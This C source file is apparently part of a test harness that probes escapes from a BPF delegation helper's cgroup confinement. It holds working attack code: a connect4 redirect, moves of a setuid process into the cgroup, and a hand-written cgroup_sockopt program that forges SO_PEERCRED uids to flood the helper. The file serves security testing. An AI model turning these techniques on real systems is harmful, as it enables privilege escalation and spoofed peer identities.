/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * Privilege: a connect4 program leads whoever is in its cgroup elsewhere. That is the owner's own business, as long as
 * nobody but he can be there: privilege.sh tries to bring in a setuid program. And a cgroup_sockopt program answers for
 * the kernel who has connected, if the server asks SO_PEERCRED: forged.sh tries that on the helper.
 */

#include "escape.h"

#include <sys/socket.h>
#include <sys/un.h>

/* Of struct bpf_sock_addr. */
#define USER_PORT 24
#define STORE4(dst, src, off) I(0x63, dst, src, off, 0)
enum { PROG_CGROUP_SOCKOPT = 25, AT_GETSOCKOPT = 21 };

static enum result redirect(struct play *play) {
        const char *port = getenv("ESCAPE_PORT");
        struct bpf_insn insns[] = {MOV(2, 0), STORE4(1, 2, USER_PORT), MOV(0, 1), EXIT};
        int prog, link;

        if (!port)
                return say(play, BROKEN, "$ESCAPE_PORT is not set");
        insns[0].imm = __builtin_bswap16((uint16_t) atoi(port)); /* in network order */
        prog = LOAD(play, PROG_CGROUP_SOCK_ADDR, AT_INET4_CONNECT, insns);
        if (prog < 0)
                return refused(play, prog, "load");
        link = make_link_at(prog, open("/sys/fs/cgroup", O_RDONLY | O_DIRECTORY | O_CLOEXEC), AT_INET4_CONNECT);
        return link < 0 ? refused(play, link, "link_create") :
                          say(play, ESCAPED, "connect() in the own subtree goes to port %s", port);
}

/* A process of the session, which is not inside: its number is written to the own subtree's cgroup.procs. */
static int move_in(const char *procs) {
        const char *pid = getenv("ESCAPE_PID");
        int fd = pid ? open(procs, O_WRONLY | O_CLOEXEC) : -1, r = 0;

        if (fd < 0)
                return pid ? -errno : -EINVAL;
        if (write(fd, pid, strlen(pid)) < 0)
                r = -errno;
        (void) close(fd);
        return r;
}

static enum result move_from_inside(struct play *play) {
        if (move_in("/sys/fs/cgroup/run/cgroup.procs") == 0)
                return say(play, ESCAPED, "moved in from inside");
        return give(play, -1) < 0 ? BROKEN : UNDECIDED;
}

/* By the host's path, which the owner of the directory may write to; then with every capability in his namespace. */
static enum result move_from_outside(struct play *play) {
        int fd, r = take(play, &fd), dir;
        char path[64];

        if (r < 0)
                return untaken(play, r, "moving in from inside");
        dir = open_cgroup(play, "own", O_RDONLY);
        if (dir < 0)
                return say(play, BROKEN, "the own cgroup: %s", strerror(-dir));
        (void) snprintf(path, sizeof(path), "/proc/self/fd/%d/run/cgroup.procs", dir);
        r = move_in(path);
        if (r == 0)
                return say(play, ESCAPED, "moved in from the session");
        if (r != -EACCES && r != -EPERM)
                return say(play, BROKEN, "cgroup.procs: %s", strerror(-r));
        if (join(play) < 0)
                return say(play, BROKEN, "joining");
        return move_in(path) == 0 ? say(play, ESCAPED, "moved in by the namespace's owner") :
                                    refused(play, r, "cgroup.procs");
}

/* Any other uid at each question. */
static int load_forger(struct play *play) {
        const struct bpf_insn insns[] = {
                COPY(6, 1),
                LOAD4(2, 6, 24 /* level */),
                I(0x55, 2, 0, 10, SOL_SOCKET),
                LOAD4(2, 6, 28 /* optname */),
                I(0x55, 2, 0, 8, SO_PEERCRED),
                CALL(7 /* get_prandom_u32 */),
                LOAD8(2, 6, 8 /* optval */),
                LOAD8(3, 6, 16 /* its end */),
                COPY(4, 2),
                ADD(4, 12),
                I(0x2d, 4, 3, 2, 0),
                I(0x47, 0, 0, 0, 0x100000),
                STORE4(2, 0, 4),
                MOV(0, 1),
                EXIT,
        };

        return LOAD(play, PROG_CGROUP_SOCKOPT, AT_GETSOCKOPT, insns);
}

/* A server's question about a connection of one's own: so that the vector is known to forge. */
static int ask_own(uid_t *ret) {
        const char *name = "escape-forged";
        struct sockaddr_un sa = {.sun_family = AF_UNIX};
        socklen_t size = (socklen_t) (offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)),
                  n = sizeof(struct ucred);
        int listening = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0),
            mine = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0), its;
        struct ucred cred = {0};

        memcpy(sa.sun_path + 1, name, strlen(name));
        if (bind(listening, (struct sockaddr *) &sa, size) < 0 || listen(listening, 1) < 0 ||
            connect(mine, (struct sockaddr *) &sa, size) < 0)
                return -errno;
        its = accept4(listening, NULL, NULL, SOCK_CLOEXEC);
        if (its < 0 || getsockopt(its, SOL_SOCKET, SO_PEERCRED, &cred, &n) < 0)
                return -errno;
        (void) close(its);
        (void) close(mine);
        (void) close(listening);
        *ret = cred.uid;
        return 0;
}

#define FORGED_CONNECTIONS 100

/* More connections to the helper than one uid may have. What it makes of them its log tells. */
static enum result forge_peers(struct play *play) {
        const char *path = getenv("BPFDELEG_SOCKET");
        struct sockaddr_un sa;
        int prog, link, r, made = 0;
        uid_t uid = 0;

        if (!path || sock_address(path, &sa) < 0)
                return say(play, BROKEN, "$BPFDELEG_SOCKET is not set");
        prog = load_forger(play);
        if (prog < 0)
                return refused(play, prog, "load");
        link = make_link_at(prog, open("/sys/fs/cgroup", O_RDONLY | O_DIRECTORY | O_CLOEXEC), AT_GETSOCKOPT);
        if (link < 0)
                return refused(play, link, "link_create");
        r = ask_own(&uid);
        if (r < 0)
                return refused(play, r, "asking about a connection of one's own");
        if (uid < 0x100000)
                return say(play, BROKEN, "SO_PEERCRED is not forged: uid %u", (unsigned) uid);
        for (int i = 0; i < FORGED_CONNECTIONS; i++) {
                int fd = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);

                made += fd >= 0 && connect(fd, (struct sockaddr *) &sa, sizeof(sa)) == 0;
        }
        if (made < FORGED_CONNECTIONS)
                return say(play, BROKEN, "%d connections made: %s", made, strerror(errno));
        return say(play, ESCAPED, "%d connections under forged uids such as %u", made, (unsigned) uid);
}

const struct vector privilege_vectors[] = {
        {.name = "peercred", .group = "forged", .inside = forge_peers},
        {.name = "redirect", .group = "own-connect", .inside = redirect},
        {.name = "setuid-moved", .group = "privilege", .inside = move_from_inside, .outside = move_from_outside},
        {.name = NULL},
};
